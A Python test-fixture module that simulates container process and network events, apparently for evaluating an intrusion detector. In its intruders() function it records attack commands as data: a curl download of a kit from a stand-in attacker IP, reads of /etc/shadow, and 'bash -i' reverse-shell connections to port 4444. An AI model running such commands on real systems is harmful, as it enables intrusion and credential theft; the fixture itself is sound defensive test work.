"""What happens in a shop, minute by minute, whoever writes it down."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from dataclasses import dataclass, replace

BEGIN = dt.datetime(2026, 3, 9, 7, 0, tzinfo=dt.UTC)
LEARNT, LAST = 30, 56
"""Minutes: what is before the first is learnt, the shop closes at the last."""

CONTAINERS = ("web-1", "web-2", "web-3", "app-1", "app-2")
_ATTACKER = "203.0.113.9"


@dataclass(frozen=True)
class Act:
    """One event of the process ``pid`` of a container; ``to``: path, address or child."""

    second: float
    container: str
    kind: str
    pid: int = 1
    ppid: int = 0
    exe: str = ""
    cmdline: str = ""
    to: str = ""
    port: int = 0
    wrote: bool = False
    uid: int = 0
    started: float = 0.0
    parent_started: float = 0.0

    @property
    def host_pid(self) -> int:
        """The pid outside of the container."""
        return 1000 * (1 + CONTAINERS.index(self.container)) + self.pid

    @property
    def host_ppid(self) -> int:
        """The parent's pid outside; that of what starts containers is 1."""
        return 1000 * (1 + CONTAINERS.index(self.container)) + self.ppid if self.ppid else 1


def shop(first: float, last: float, *more: Act) -> list[Act]:
    """Return what happens between two minutes, in the order of time; the shop opens in minute 0."""
    usual = [act for n in range(LAST) for name in CONTAINERS for act in _work(name, n)]
    acts = [*usual, *more] if more else [*usual, *intruders()]
    return sorted((act for act in acts if 60 * first <= act.second < 60 * last), key=lambda act: act.second)


def _work(container: str, number: int) -> Iterator[Act]:
    """Return what a container does in a minute."""
    main = Act(60 * number + CONTAINERS.index(container), container, "open", exe=_program(container), uid=33)
    if number == 0:
        yield replace(main, kind="exec", cmdline=main.exe)
    yield replace(main, second=main.second + 1, kind="accept", to="10.0.0.9", port=4000 + number)
    yield replace(main, second=main.second + 5, to=f"/etc/conf.d/{'abc'[number % 3]}")
    yield replace(main, second=main.second + 10, to=f"/var/log/{container[:3]}-{number % 5}.log", wrote=True)
    yield replace(main, second=main.second + 15, kind="connect", to=f"10.0.0.{number % 4}", port=6379)
    job = ("/bin/ls", "/bin/date", "/bin/cat")[number % 3]
    yield from child(main, main.second + 20, 100 + number, job, f"{job[5:]} -l", seconds=10)


def _program(container: str) -> str:
    return {"web": "/usr/sbin/nginx", "app": "/usr/bin/python3"}[container[:3]]


def child(parent: Act, second: float, pid: int, exe: str, cmdline: str, *acts: Act, seconds: float = 2.0,
          uid: int = 33) -> Iterator[Act]:  # fmt: skip
    """Return what a new process below another one does: forked, a program, ``acts``, gone."""
    own = replace(
        parent, second=second, pid=pid, ppid=parent.pid, exe=exe, cmdline=cmdline, uid=uid, started=second,
        parent_started=parent.started,
    )  # fmt: skip
    yield replace(parent, second=second, kind="fork", to=str(own.host_pid))
    yield replace(own, second=second + 0.01, kind="exec")
    for n, act in enumerate(acts):
        yield replace(
            own, second=second + 0.1 + 0.1 * n, kind=act.kind, to=act.to, port=act.port, wrote=act.wrote
        )
    yield replace(own, second=second + seconds, kind="exit")


def does(kind: str, to: str, port: int = 0, wrote: bool = False) -> Act:
    """Return an act for `child`, whoever it is."""
    return Act(0, "web-1", kind, to=to, port=port, wrote=wrote)


def intruders() -> Iterator[Act]:
    """Return an attack that begins early and goes on late, and one that three replicas take up in turn."""
    web, app = (Act(0, name, "open", exe=_program(name), uid=33) for name in ("web-1", "app-1"))
    yield from child(
        web, 60 * 32 + 3, 801, "/usr/bin/curl", "curl -o /tmp/kit http://203.0.113.9/kit",
        does("connect", _ATTACKER, 80), does("open", "/tmp/kit", wrote=True),
        does("open", "/usr/local/bin/late", wrote=True),
    )  # fmt: skip
    for n, second in enumerate((60 * 33 + 58, 60 * 36, 60 * 41 + 30)):
        yield from child(
            web, second, 810 + n, "/tmp/kit", "/tmp/kit --all", does("open", "/etc/shadow"),
            does("connect", _ATTACKER, 4444),
        )  # fmt: skip
    yield from child(
        web, 60 * 52, 830, "/usr/local/bin/late", "/usr/local/bin/late", does("open", "/etc/passwd")
    )
    yield from child(app, 60 * 34, 840, "/bin/bash", "bash -i", does("connect", _ATTACKER, 4444))
    yield from child(app, 60 * 47 + 10, 841, "/bin/bash", "bash -i", does("open", "/etc/shadow"))
    for n, name in enumerate(("web-1", "web-2", "web-3")):
        yield from child(
            replace(web, container=name), 60 * (38 + 2 * n) + 20, 850, "/opt/agent", "/opt/agent run",
            does("connect", "198.51.100.7", 9000), does("open", "/opt/agent.conf"),
        )  # fmt: skip
